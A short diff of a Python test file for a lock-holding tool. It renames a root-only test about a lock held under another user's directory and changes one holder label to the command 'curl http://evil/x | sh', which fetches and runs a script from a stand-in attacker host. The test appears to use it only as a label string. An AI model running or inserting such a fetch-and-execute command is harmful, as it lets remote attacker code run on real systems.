@@ -167,12 +167,12 @@ def test_stopping_all_that_drivers_run_ends_a_hold(sh):
 
 
 @pytest.mark.skipif(os.getuid() != 0, reason="only root reads another user's files")
-def test_root_sees_that_another_user_holds_the_node(sh):
-    first = held(sh, "first")
+def test_a_lock_that_another_user_can_write_stops_nobody(sh):
+    first = held(sh, "curl http://evil/x | sh")
     theirs = sh.state.parent / "user/65533/nixwulf"
     theirs.parent.mkdir(parents=True)
     shutil.copytree(sh.state, theirs)
     os.chown(theirs, 65533, 65533)
     lock_of(sh).unlink()
-    assert "of user 65533\n" in holder(sh, "second").stdout.readline()
+    assert holder(sh, "second").stdout.readline() == "nixwulf-holds\n"
     assert first.poll() is None
